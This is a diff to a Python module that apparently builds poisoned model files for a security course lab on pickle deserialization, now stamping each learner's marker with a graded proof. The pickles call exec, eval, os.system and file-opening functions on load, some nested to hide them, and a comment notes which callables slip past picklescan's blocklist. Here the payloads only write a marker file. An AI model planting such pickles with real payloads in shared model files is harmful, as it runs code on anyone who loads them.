@@ -19,6 +19,8 @@ import json
 import logging
 import os
 import pickle
+import re
+import secrets
 import struct
 import subprocess
 import zipfile
@@ -29,7 +31,16 @@ from pathlib import Path
 import torch
 from safetensors.torch import save_file
 
+from doubleedge.target.secrets import derive_secret
+
 MARKER_TEXT = "Double Edge lab 06: this file ran code when it was loaded."
+# The lab's own poisoned file writes MARKER_TEXT plus a proof: a nonce drawn when the file is
+# built and a code derived from the learner's key and that nonce. Only the built file holds the
+# nonce, so the text is read from the file (by loading or disassembling it), not from this module;
+# the grader, holding the course key, checks the code. See marker_text and grading/lab06.py.
+MARKER_PURPOSE = "lab06-marker"
+MARKER_PROOF = re.compile(r"\(proof ([0-9a-f]{16}) (DE-FAKE-[0-9A-F]{4}-[0-9A-F]{4})\)")
+TEMPLATE_KIND = "chat-template"  # held-out records of tampered GGUF chat templates, not model-file cases
 EXPECTS = ("refuse", "load", "either")
 FORMATS = ("torch-zip", "torch-legacy", "raw-pickle", "safetensors", "fake-safetensors")
 LAYOUTS = ("file", "folder")
@@ -43,46 +54,46 @@ SHAPES: dict[str, tuple[int, ...]] = {
 }
 
 
-def _exec(marker: Path) -> tuple[Callable, tuple]:
-    return exec, (f"open({str(marker)!r}, 'w').write({MARKER_TEXT!r})",)
+def _exec(marker: Path, text: str) -> tuple[Callable, tuple]:
+    return exec, (f"open({str(marker)!r}, 'w').write({text!r})",)
 
 
-def _eval(marker: Path) -> tuple[Callable, tuple]:
-    return eval, (f"open({str(marker)!r}, 'w').write({MARKER_TEXT!r})",)
+def _eval(marker: Path, text: str) -> tuple[Callable, tuple]:
+    return eval, (f"open({str(marker)!r}, 'w').write({text!r})",)
 
 
-def _system(marker: Path) -> tuple[Callable, tuple]:
-    return os.system, (f"echo '{MARKER_TEXT}' > '{marker}'",)
+def _system(marker: Path, text: str) -> tuple[Callable, tuple]:
+    return os.system, (f"echo '{text}' > '{marker}'",)
 
 
-def _subprocess(marker: Path) -> tuple[Callable, tuple]:
+def _subprocess(marker: Path, text: str) -> tuple[Callable, tuple]:
     return subprocess.run, (["touch", str(marker)],)
 
 
 # The next four only create an (empty) file, through classes and functions that a
 # blocklist may not list: picklescan calls io.open, codecs.open and zipfile.ZipFile
 # "suspicious", not "dangerous". An allowlist (torch's weights_only) refuses them all.
-def _open(marker: Path) -> tuple[Callable, tuple]:
+def _open(marker: Path, text: str) -> tuple[Callable, tuple]:
     return open, (str(marker), "w")
 
 
-def _fileio(marker: Path) -> tuple[Callable, tuple]:
+def _fileio(marker: Path, text: str) -> tuple[Callable, tuple]:
     return io.FileIO, (str(marker), "w")
 
 
-def _codecs(marker: Path) -> tuple[Callable, tuple]:
+def _codecs(marker: Path, text: str) -> tuple[Callable, tuple]:
     return codecs.open, (str(marker), "w")
 
 
-def _zipfile(marker: Path) -> tuple[Callable, tuple]:
+def _zipfile(marker: Path, text: str) -> tuple[Callable, tuple]:
     return zipfile.ZipFile, (str(marker), "w")
 
 
-def _filehandler(marker: Path) -> tuple[Callable, tuple]:
+def _filehandler(marker: Path, text: str) -> tuple[Callable, tuple]:
     return logging.FileHandler, (str(marker),)
 
 
-PAYLOADS: dict[str, Callable[[Path], tuple[Callable, tuple]]] = {
+PAYLOADS: dict[str, Callable[[Path, str], tuple[Callable, tuple]]] = {
     "exec": _exec,
     "eval": _eval,
     "system": _system,
@@ -95,6 +106,13 @@ PAYLOADS: dict[str, Callable[[Path], tuple[Callable, tuple]]] = {
 }
 
 
+def marker_text(nonce: str, learner: str | None = None) -> str:
+    """What the lab's poisoned file built with ``nonce`` writes for ``learner`` (default: this
+    process's learner). The grader calls it to check an answer; the learner reads it from the file."""
+    code = derive_secret(learner, purpose=f"{MARKER_PURPOSE}:{nonce}")
+    return f"{MARKER_TEXT[:-1]} (proof {nonce} {code})."
+
+
 class Payload:
     """Pickles as "call ``func(*args)``": what ``__reduce__`` lets any pickle do when loaded."""
 
@@ -105,11 +123,12 @@ class Payload:
         return self.func, self.args
 
 
-def payload_for(name: str, marker: Path, *, nested: bool = False) -> Payload:
-    """The named harmless payload; ``nested`` hides it in a pickle inside the pickle."""
+def payload_for(name: str, marker: Path, *, nested: bool = False, text: str = MARKER_TEXT) -> Payload:
+    """The named harmless payload (writing ``text``, if it writes); ``nested`` hides it in a
+    pickle inside the pickle."""
     if name not in PAYLOADS:
         raise ValueError(f"unknown payload {name!r}; known: {', '.join(PAYLOADS)}")
-    func, args = PAYLOADS[name](marker)
+    func, args = PAYLOADS[name](marker, text)
     if nested:
         return Payload(pickle.loads, (pickle.dumps(Payload(func, args), protocol=0),))
     return Payload(func, args)
@@ -286,8 +305,9 @@ def _config(remote_code: bool) -> dict:
     return config
 
 
-def build_case(spec: CaseSpec, root: str | Path) -> BuiltCase:
-    """Write one case under ``root/<id>`` (its marker under ``root/markers``); same bytes every run."""
+def build_case(spec: CaseSpec, root: str | Path, *, text: str = MARKER_TEXT) -> BuiltCase:
+    """Write one case under ``root/<id>`` (its marker under ``root/markers``); same bytes every run
+    for the same ``text``, what the payloads that write write."""
     root = Path(root).resolve()
     markers = root / "markers"
     markers.mkdir(parents=True, exist_ok=True)
@@ -296,7 +316,7 @@ def build_case(spec: CaseSpec, root: str | Path) -> BuiltCase:
     base = root / spec.id
     base.mkdir(parents=True, exist_ok=True)
     state = weights(spec.seed, dtype=spec.dtype)
-    payload = payload_for(spec.payload, marker, nested=spec.nested) if spec.payload else None
+    payload = payload_for(spec.payload, marker, nested=spec.nested, text=text) if spec.payload else None
     target = base / (spec.name or DEFAULT_NAMES[spec.format])
     WRITERS[spec.format](target, state, payload, spec.protocol)
     published = sha256_file(target)
@@ -318,8 +338,9 @@ def build_case(spec: CaseSpec, root: str | Path) -> BuiltCase:
 
 
 def load_specs(path: str | Path) -> list[CaseSpec]:
-    lines = Path(path).read_text().splitlines()
-    return [CaseSpec.from_dict(json.loads(line)) for line in lines if line.strip()]
+    """The model-file cases of a held-out set (its chat-template records are grading/lab06.py's)."""
+    records = [json.loads(line) for line in Path(path).read_text().splitlines() if line.strip()]
+    return [CaseSpec.from_dict(r) for r in records if r.get("kind") != TEMPLATE_KIND]
 
 
 def build_cases(specs: list[CaseSpec], root: str | Path) -> list[BuiltCase]:
@@ -356,8 +377,11 @@ class CommunityModel:
 
 
 def build_community_model(root: str | Path) -> CommunityModel:
+    """The lab's hub under ``root``; its poisoned pickle writes this learner's ``marker_text``
+    with a fresh nonce (so its bytes, and its published hash, change on every build)."""
     root = Path(root).resolve()
-    cases = {name: build_case(spec, root) for name, spec in COMMUNITY_VARIANTS.items()}
+    text = marker_text(secrets.token_hex(8))
+    cases = {name: build_case(spec, root, text=text) for name, spec in COMMUNITY_VARIANTS.items()}
     manifest = {name: {"folder": c.path.name, "sha256": c.sha256} for name, c in cases.items()}
     (root / "published_hashes.json").write_text(json.dumps(manifest, indent=1))
     return CommunityModel(root, cases)
